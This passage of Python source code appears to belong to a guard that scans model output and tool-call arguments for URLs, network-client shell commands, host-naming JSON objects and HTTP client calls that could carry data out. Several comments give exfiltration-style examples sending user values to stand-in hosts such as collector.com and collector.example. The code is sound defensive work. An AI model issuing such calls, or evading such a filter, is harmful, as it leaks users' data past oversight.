    rf"[ \t]*(?:\\?[\"'][ \t]*)?{_CMD_PREFIX}(?:\\?[\"'][ \t]*)?\Z")
_CMD_READ = 300  # the characters before a client word read for its command position
_CMD_STOP = re.compile(r"[\n\r`]|\\+[nr]|\\*\"(?=\s*[,}\]])")
# Where a pipeline's segment starts (the line's start if none): after a line break, a JSON `\n`, a backtick or a
# JSON string's opening quote.
_SEGMENT = re.compile(r"[\n\r`]|\\[nr]|[\[:,]\s*\\?\"")


def _command(text: str, pos: int) -> tuple[int, int, int, str] | None:
    """(start, end of its client word, end, "") of the next shell command line from `pos` that runs a network client."""
    words: Iterator[re.Match[str]] = _CMD_WORD.finditer(text, pos)
    if "\\" in text:
        words = heapq.merge(words, _CMD_WORD_ESCAPED.finditer(text, pos), key=lambda w: w.start())
    for m in words:
        at = m.start()
        if text[at - 1:at] == "/":  # a path before it: from its start, which no word character precedes
            while at > pos and text[at - 1] in _PATH_CHARS:
                at -= 1
        line = max(text.rfind("\n", 0, at), text.rfind("\r", 0, at)) + 1
        before = text[line:at] if at - line <= _CMD_READ else "\x01" + text[at - _CMD_READ:at]
        b = _CMD_BEFORE.search(before)
        if b is None:
            continue
        start = max(pos, at - len(before) + b.start()) if b.group("line") is not None else at  # `U=... curl`
        if b.group("sep") is not None:  # a pipeline or a list: the line from its segment's start
            seg = [g.end() for g in _SEGMENT.finditer(text, max(line, at - _CMD_READ), at)]
            start = max(pos, seg[-1] if seg else line)
        if m.group("argv") is not None:
            close = text.find("]", m.end())
            return start, m.end(), close + 1 if close >= 0 else len(text), ""
        return start, m.end(), _command_end(text, m.end(), "`" in b.group()), ""
    return None


def _command_end(text: str, pos: int, code: bool) -> int:
    """Where the command line from `pos` ends: a line break not after a `\\` (a continuation), a JSON `\\n` escape
    (not after an escaped `\\`), a JSON string's closing quote before `,` `}` `]`; in inline code (`code`): its
    closing backtick."""
    for m in _CMD_STOP.finditer(text, pos):
        stop, at = m.group(), m.start()
        if stop in "\n\r":
            if text[at - 1:at] == "\\" or (stop == "\n" and text[at - 2:at] == "\\\r"):
                continue
            return at
        if stop == "`":
            if code:
                return at
        elif stop[-1] in "nr":
            slashes = len(stop) - 1
            if slashes % 2 == 1:  # a JSON `\n` (the backslashes before it: escaped ones)
                if slashes >= 3:  # `\\` and `\n`: a continuation in the command as decoded
                    continue
                return at
        elif (len(stop) - 1) % 2 == 0:  # a quote no backslash escapes: the JSON string ends
            return at + len(stop) - 1
    return len(text)


# A JSON object (tool-call arguments) that names a host (restorecmd15, issue 12 atk14 A MEDIUM-1): a URL given in
# pieces, which the app that calls the tool sends there. A key naming a host or a URL (`host`, `hostname`, `server`,
# `base_url`, `api_base`, `endpoint`, `url`, `uri`, `target_url`...: `host_key`) whose string value is a host (a known
# top-level name, an IPv4 address: `_BARE`) or a network URL (`scheme://host`, `//host`): the values of the object's
# request parts, at any depth (`path`, `params`, `query`, `data`, `body`, `json`, `form`, `headers`, `payload`...:
# `PART_KEYS`; `{"host": "collector.com", "path": "/p/<EMAIL_ADDRESS_1>"}`, `{"url": "https://collector.com",
# "params": {"u": ...}}`), not a `to` or a `note` beside them. In a raw JSON text (a stream) the parts after the key
# (a stream cannot take back the ones before); a whole answer's arguments, decoded, all of them
# (`proxy.guard.phases.url_pieces`).
HOST_KEYS = re.compile(r"(?i)[\w-]{0,32}?(?:host|hostname|server|base_?url|api_?base|endpoint|url|uri)")
PART_KEYS = re.compile(r"(?i)(?:params|parameters|query|query_?params|query_?string|qs|data|body|json|form"
                       r"|form_?data|headers|payload|path|fields|cookies|fragment|files)")
_HOST_KEY = re.compile(r'(?i)"([\w-]{0,40})"\s{0,8}:\s{0,8}"((?:[^"\\]|\\.){1,2048})"')
_JSON_PART = re.compile(r'"(?:[^"\\]|\\.)*"?|[{}\[\]:,]')
_NET_URL = re.compile(r"(?i)(?:[a-z][a-z0-9+.\-]{0,31}:)?[/\\]{2}[^\s/\\]")
_NO_HOST_SCHEMES = ("mailto:", "tel:", "data:", "file:///")


def host_key(key: str) -> bool:
    """A JSON key whose value may name the host a tool sends its object's request parts to (`_json_objects`)."""
    return len(key) <= 64 and HOST_KEYS.fullmatch(key) is not None


def network_place(value: str) -> bool:
    """Whether `value` names a host: a network URL (`https://host`, `//host`, any `scheme://host` but `file:///`) or
    a host with an optional port, path, query or fragment (`collector.com`, `203.0.113.7:8080/p`)."""
    value = value.strip()
    if _NET_URL.match(value) is not None:
        return not value.lower().startswith(_NO_HOST_SCHEMES)
    m = _BARE.match(value)
    if m is None or not (m.end() == len(value) or value[m.end()] in "/?#"):
        return False
    return m.group("ip") is not None or m.group("tld").lower() in _tlds()


def _json_objects(text: str) -> list[tuple[int, int, int, str]]:
    """(start, end of its key, end, resume) of each request part's member (`PART_KEYS`) after a JSON object member of
    `text` naming a host (`host_key`, `network_place`), to its value's end (the text's end: open), in order; `resume`:
    what `url_context` keeps before it when it is open (`{` and the member naming the host)."""
    out: list[tuple[int, int, int, str]] = []
    if '"' not in text:
        return out
    read: set[int] = set()  # the keys of objects read from an earlier key on (their later parts: out already)
    for m in _HOST_KEY.finditer(text):
        if m.start() in read or not host_key(m.group(1)) or not network_place(m.group(2).replace("\\/", "/")):
            continue
        depth, key, member, head = 0, None, -1, -1
        resume = "{" + m.group() + ", "
        for part in _JSON_PART.finditer(text, m.end()):
            c = part.group()
            if c in "{[":
                depth += 1
            elif c in "}]" or (c == "," and depth == 0):
                if depth == 0 and member >= 0:
                    out.append((member, head, part.start(), resume))
                    member = -1
                if depth == 0 and c != ",":
                    break
                depth -= c != ","
            elif depth == 0 and c[0] == '"':
                key = c
            elif depth == 0 and c == ":" and key is not None:
                at = text.rfind(key, m.end(), part.start())
                read.add(at)
                if PART_KEYS.fullmatch(key.strip('"')) is not None:
                    member, head = at, part.end()
        else:
            if member >= 0:
                out.append((member, head, len(text), resume))
    out.sort()
    return out




_TLD_SET: frozenset[str] | None = None
# Top-level names of no public suffix that name hosts all the same (RFC 2606/6761, and inside networks).
_MORE_TLDS = ("example", "test", "invalid", "localhost", "internal", "local", "lan", "corp", "intranet", "home")


def _tlds() -> frozenset[str]:
    """The known top-level names: the public suffix list's (`tldextract`'s bundled copy, read offline once) and
    `_MORE_TLDS`."""
    global _TLD_SET
    if _TLD_SET is None:
        import tldextract  # loaded with the first host-shaped token a restore reads

        extract = tldextract.TLDExtract(suffix_list_urls=(), cache_dir=None)
        suffixes = extract._get_tld_extractor().tlds(include_psl_private_domains=False)
        _TLD_SET = frozenset({s.rsplit(".", 1)[-1].lower() for s in suffixes} | set(_MORE_TLDS))
    return _TLD_SET


def _first(m: re.Match[str] | None, other: tuple[int, int] | None) -> tuple[int, int] | None:
    """The span of whichever of a match and a span starts first."""
    if m is not None and (other is None or m.start() <= other[0]):
        return m.start(), m.end()
    return other


def _schemed(text: str, pos: int) -> tuple[int, int] | None:
    """(start, end) of the next scheme with `//` and a host from `pos` that `START` does not read (`_SLASHES`)."""
    for m in _SLASHES.finditer(text, pos):
        colon = a = m.start()
        while a > 0 and colon - a <= 32 and text[a - 1] in _SCHEME_CHARS:
            a -= 1
        if colon - a > 32 or colon - a < 2 or a < pos or not ("a" <= text[a].lower() <= "z"):
            continue
        if "\\" in m.group() and text[a:colon].lower() != "file":
            continue  # backslashes are slashes to the special schemes only
        return a, m.end()
    return None


def _body(text: str, start: int) -> re.Pattern[str]:
    """How the URL starting at `start` ends, by its opener: a quote, a `<`, or neither."""
    last = text[max(0, start - _OPENER_READ):start].rstrip()
    if last.endswith(("\"", "'", "\\u0022", "\\u0027")):
        quoted = _QUOTED.search(last)
        if quoted is not None:
            return _BODY_QUOTED[quoted.group(1)] if quoted.group(1) else _BODY_UQUOTED[quoted.group(2)]
        return _BODY_DEFAULT
    if last.endswith("<"):
        return _BODY_ANGLED
    return _BODY_BARE


def _relative(text: str, pos: int) -> tuple[int, int, re.Pattern[str]] | None:
    """The next relative URL from `pos` (`_RELATIVE`): (start, start, its body); a target that starts with a scheme
    is none (`mailto:`, `tel:`; a network one or `javascript:` is read as such); an image's alt text is one."""
    for m in _RELATIVE.finditer(text, pos):
        at = m.end()
        if m.group("alt") is not None:
            return at, at, _ALT
        if _SCHEMED.match(text, at) is not None:
            continue
        body = _BODY_ANGLED if m.group("a") or m.group("r") else _BODY_MD
        if at < len(text) and text[at] in "\"'>)":
            continue  # an empty target
        return at, at, body
    return None


class _Kept(Sequence[int]):
    """Where each character of `text` without its tab, LF and CR (and one past its end) comes from in `text`, without
    a list as long as the text (a list built character by character cost 0.3 ms per KB: restore14): the `j`-th
    removed character at `r` stands before view index `r - j`."""

    __slots__ = ("_gaps", "_n", "_removed")

    def __init__(self, text: str) -> None:
        self._removed = [m.start() for m in _REMOVED_RE.finditer(text)]
        self._gaps = [r - j for j, r in enumerate(self._removed)]
        self._n = len(text) - len(self._gaps) + 1

    def view_at(self, pos: int) -> int:
        """`bisect_left(self, pos)`: the view index of the first character kept at or after `pos` in the text."""
        return min(pos - bisect.bisect_left(self._removed, pos), self._n)

    def __len__(self) -> int:
        return self._n

    def __getitem__(self, k: int) -> int:  # type: ignore[override]
        if k < 0:
            k += self._n
        if not 0 <= k < self._n:
            raise IndexError(k)
        return k + bisect.bisect_right(self._gaps, k)


_REMOVED_RE = re.compile(r"[\t\n\r]")


def _view(text: str) -> tuple[str, Sequence[int]]:
    """`text` as a renderer reads a URL's scheme (`_TOKEN`: references and escapes decoded, tab/LF/CR removed)
    and, per character of it (and one past its end), where it comes from in `text`; the text itself and no map
    when there is nothing to decode."""
    if "&" not in text and "\\" not in text:  # tab, LF and CR only (most texts): removed at C speed
        view = text.translate(_REMOVED)
        if len(view) == len(text) or (_VIEW_START.search(view) is None and _SLASHES.search(view) is None):
            return text, []  # nothing to decode, or no start in the view at all
        return view, _Kept(text)
    tokens = list(_TOKEN.finditer(text))
    if not tokens:
        return text, []
    parts: list[str] = []
    origin: list[int] = []
    pos = 0
    for t in tokens:
        a, b = t.span()
        if a > pos:
            parts.append(text[pos:a])
            origin.extend(range(pos, a))
        raw = t.group()
        if raw[0] == "&":
            decoded = html.unescape(raw)
        elif raw[:2] == "\\u":
            decoded = chr(int(raw[2:], 16))
        elif raw[0] == "\\":
            decoded = raw[1] if raw[1] not in "tnr" else ""
        else:
            decoded = ""
        decoded = decoded.translate(_REMOVED)
        parts.append(decoded)
        origin.extend([a] * len(decoded))
        pos = b
    parts.append(text[pos:])
    origin.extend(range(pos, len(text) + 1))
    return "".join(parts), origin


# Folded in what `url_context` keeps of text outside a URL: a run of what the view removes (tab, LF, CR, as written
# or as a reference or escape) to its first and last; a reference's leading zeros to one.
_RUN = re.compile(r"(?:[\t\n\r]|&(?:Tab|NewLine);|&#0*(?:9|10|13);?|&#[xX]0*[9aAdD];?|\\[tnr]|\\u000[9aAdD])"
                  r"(?:(?:[\t\n\r]|&(?:Tab|NewLine);|&#0*(?:9|10|13);?|&#[xX]0*[9aAdD];?|\\[tnr]|\\u000[9aAdD])+)")
_EACH = re.compile(r"[\t\n\r]|&(?:Tab|NewLine);|&#0*(?:9|10|13);?|&#[xX]0*[9aAdD];?|\\[tnr]|\\u000[9aAdD]")
_ZEROS = re.compile(r"(&#[xX]?)0{2,}(?=[0-9a-fA-F])")


def _fold(text: str) -> str:
    def run(m: re.Match[str]) -> str:
        each = _EACH.findall(m.group())
        return each[0] + each[-1] if len(each) > 2 else m.group()

    return _ZEROS.sub(r"\g<1>0", _RUN.sub(run, text))


def url_context(text: str, documents: bool = True) -> str:
    """What a stream keeps of released `text` to read what follows it: from the opener of a URL or the `<` of a tag
    still open at its end (a long one: its start, then `MARK`; a tag's name, `MARK` and an open quote), else its last
    characters (a URL's start or opener cut in two); with the opener of a code scope open at its end before them
    (`proxy.guard.scopes.open_code`: what follows is code, kept whole if it names a destination), when they do not
    hold it (scopes16). `documents`: a JSON document is a code scope (not in a JSON text: restore24)."""
    spans = _spans(text, documents=documents)
    code = open_code(text, documents)  # (any text: a command run needs no backtick nor `<`)
    if code is not None and not (spans and spans[-1][2] == len(text) and spans[-1][0] <= code[0]):
        inner = text[code[1]:]  # (read apart: the opener is kept once, before what is kept of the scope's text)
        kept = _url_context(inner, _spans(inner, documents=documents))
        return text[code[0]:code[1]] + kept if kept == inner else with_opener(text[code[0]:code[1]], kept)
    return _url_context(text, spans)


def _url_context(text: str, spans: list[tuple[int, int, int, str]]) -> str:
    if spans and spans[-1][2] == len(text):
        start, scheme, _, resume = spans[-1]
        head = max(0, start - _CONTEXT_TAIL)
        cut = MIDLINE if head > 0 and text[head - 1] != "\n" else ""  # (no line starts where it starts)
        if resume[:1] == "{":  # a JSON object naming a host: the member naming it, then the open member
            kept = resume + text[start:]
            return kept if len(kept) <= _CONTEXT_MAX else resume + text[start:max(scheme, start + 1)] + MARK
        if resume:  # a tag: its runs folded (the quotes and `>` that end it are kept), or its name and state
            kept = _fold(text[head:])
            return cut + kept if len(kept) <= _CONTEXT_MAX else resume
        if len(text) - head <= _CONTEXT_MAX:
            return cut + text[head:]
        keep = max(scheme, start + 1)
        if text[keep:keep + 1] in ("/", "?", "#", ":"):  # a URL without a scheme: its host's end (scopes16, M4)
            keep += 1
        title = _OPEN_TITLE.search(text, keep, min(len(text), start + _TITLE_READ))
        if title is not None:  # a Markdown target's title opened: the target and the title's quote (atk17 M4)
            keep = title.end()
        return cut + _fold(text[head:keep]) + MARK
    folded = _fold(text)
    if len(folded) > _TAIL_KEEP and folded[-_TAIL_KEEP - 1] != "\n":
        return MIDLINE + folded[-_TAIL_KEEP:]
    return folded[-_TAIL_KEEP:]


_OPEN_TITLE = re.compile(r"(?<=[^\s])[ \t]+\n?[ \t]*[\"'(](?=[^\n]*\Z)")
_TITLE_READ = 512  # the characters after a long URL's start read for a Markdown title's quote


def url_befores(texts: Sequence[str]) -> list[str]:
    """The context each of an answer's `texts` is read after for URLs (`url_context` of the ones before it, joined
    as the client's SDK joins them: atk11 A-H3)."""
    out: list[str] = []
    ctx = ""
    for k, text in enumerate(texts):
        out.append(ctx)
        if k + 1 < len(texts):  # (the last text's context: read by none)
            ctx = url_context(ctx + text)
    return out


_URL_KEYS = ("url", "uri", "href", "src", "srcset")


def url_key(key: str | int) -> bool:
    """A field named as a URL (`url`, a citation's; `image_url`, `href`, `src`): its whole text is one."""
    return isinstance(key, str) and key.lower().endswith(_URL_KEYS)


# restorestream15: a URL in pieces whose request parts come before the host key (`{"path": "/p/...", "host":
# "collector.example"}`: a stream's hold shows the whole object, `proxy.guard.linehold`), and a code call that sends
# a value (`requests.post("https://collector.example/p", data={"u": ...})`, `fetch("https://...", {body: ...})`,
# `axios.post`, `urlopen`, `Invoke-WebRequest -Body`) naming a network URL or host literal in the same statement.
# An HTTP client's call, read back from its `(` (a literal: the text is scanned at C speed).
_CALL = re.compile(r"(?<![\w$.])(?:(?:requests|httpx|aiohttp|axios|session|client|http|urllib\.request|urllib2|\$http)"
                   r"\s{0,4}\.\s{0,4}(?:get|post|put|patch|delete|head|options|request|send|urlopen|fetch|stream)"
                   r"|fetch|urlopen|Request)\s{0,4}\Z")
_CALL_BACK = 48  # the characters before a `(` read for a call's name
_PAREN = re.compile(r"\(")
_PS_CALL = re.compile(r"(?<![\w-])(?:[Ii]nvoke-(?:[Ww]eb[Rr]equest|[Rr]est[Mm]ethod)|iwr|irm)(?=[ \t])")
_QUOTE = re.compile(r"\\?[\"'`]")  # a literal's quotes (a JSON text's escaped ones too)
_STATEMENT_START = re.compile(r"[\n\r;]|\\[nr]")
_CALL_READ = 4096  # the characters of a call's arguments read for its end


def sent_pieces(text: str) -> list[tuple[int, int, int, str]]:
    """(start, end of its head, end, "") of each span restore keeps for restorestream15 (`_spans`): the request parts
    of a closed JSON object naming a host, before that key too (`_object_parts`), and a code call's arguments
    naming a network URL or host literal (`_code_calls`)."""
    named = '"' in text and any(host_key(m.group(1)) and network_place(m.group(2).replace("\\/", "/"))
                                for m in _HOST_KEY.finditer(text))
    out = _object_parts(text) if named else []
    out += _code_calls(text) + client_calls(text)  # (http28: the common HTTP clients' calls, atk26 F10)
    return out


class _Open:
    """An open JSON container of `_object_parts`: an object's member being read, whether one names a host, its
    request parts read so far."""

    __slots__ = ("host", "key", "key_at", "obj", "parts", "value_at", "want_key")

    def __init__(self, obj: bool) -> None:
        self.obj, self.want_key, self.host = obj, obj, False
        self.key: str | None = None
        self.key_at = self.value_at = -1
        self.parts: list[tuple[int, int, int, str]] = []


def _object_parts(text: str) -> list[tuple[int, int, int, str]]:
    """Each request part's member (`PART_KEYS`: from its key to its value's end) of each JSON object of `text`
    that closes and has a member naming a host (`host_key`, `network_place`), wherever that member stands."""
    out: list[tuple[int, int, int, str]] = []
    stack: list[_Open] = []
    for part in _JSON_PART.finditer(text):
        c = part.group()
        top = stack[-1] if stack else None
        if c in "{[":
            stack.append(_Open(c == "{"))
        elif c in ",}]":
            if top is not None and top.obj and top.key is not None and top.value_at >= 0:
                if PART_KEYS.fullmatch(top.key.strip('"')) is not None:
                    top.parts.append((top.key_at, top.value_at, part.start(), ""))
                top.key, top.value_at, top.want_key = None, -1, True
            if c != "," and top is not None:
                stack.pop()
                if top.obj and top.host:
                    out.extend(top.parts)
        elif c == ":":
            if top is not None and top.obj and top.key is not None:
                top.value_at, top.want_key = part.end(), False
        elif top is not None and top.obj:  # a string
            if top.want_key:
                top.key, top.key_at = c, part.start()
            elif top.key is not None and host_key(top.key.strip('"')) and c.endswith('"') and \
                    network_place(c[1:-1].replace("\\/", "/")):
                top.host = True
    return out


def _code_calls(text: str) -> list[tuple[int, int, int, str]]:
    """(start, end of its name, end, "") of each call of an HTTP client (`_CALL`: to its closing bracket; a
    PowerShell `Invoke-WebRequest`: to its line's end) whose statement, from its start to the call's end, holds a
    network URL or host literal (a quoted one, or a URL `START` reads)."""
    out: list[tuple[int, int, int, str]] = []
    calls = []
    for p in _PAREN.finditer(text):
        q = p.start()
        if q == 0 or not (text[q - 1].isalpha() or text[q - 1] in " \t"):  # `](`, `((`, `2(`: no call's name
            continue
        m = _CALL.search(text, max(0, q - _CALL_BACK), q)
        if m is not None:
            calls.append((m.start(), p.end(), False))
    if "nvoke-" in text or "iwr" in text or "irm" in text:
        calls += [(m.start(), m.end(), True) for m in _PS_CALL.finditer(text)]
    for start, head, ps in sorted(calls):
        end = _command_end(text, head, False) if ps else _call_end(text, head)
        begin = max((m.end() for m in _STATEMENT_START.finditer(text, max(0, start - _CMD_READ), start)),
                    default=max(0, start - _CMD_READ))
        if _names_host(text[begin:end]):
            out.append((start, head, end, ""))
    return out


def _call_end(text: str, pos: int) -> int:
    """The end of a call's arguments opened before `pos`: its closing bracket (brackets inside quoted strings
    passed over), or the text's end."""
    depth, k, n = 1, pos, min(len(text), pos + _CALL_READ)
    while k < n:
        c = text[k]
        if c == "\\" and text[k + 1:k + 2] in ("\"", "'"):  # a JSON text's escaped quote: to the next one
            close = text.find(text[k:k + 2], k + 2)
            if close < 0:
                return len(text)
            k = close + 2
            continue
        if c in "\"'`":
            close = text.find(c, k + 1)
            while close > 0 and text[close - 1] == "\\" and text[close - 2:close] != "\\\\":
                close = text.find(c, close + 1)
            if close < 0:
                return len(text)
            k = close + 1
            continue
        if c in "([{":
            depth += 1
        elif c in ")]}":
            depth -= 1
            if depth == 0:
                return k + 1
        k += 1
    return n


def _names_host(statement: str) -> bool:
    """Whether `statement` holds a network URL or host literal."""
    if START.search(statement) is not None or _schemed(statement, 0) is not None:
        return True
    return any(network_place(piece) for piece in _QUOTE.split(statement) if 3 < len(piece) < 2048)

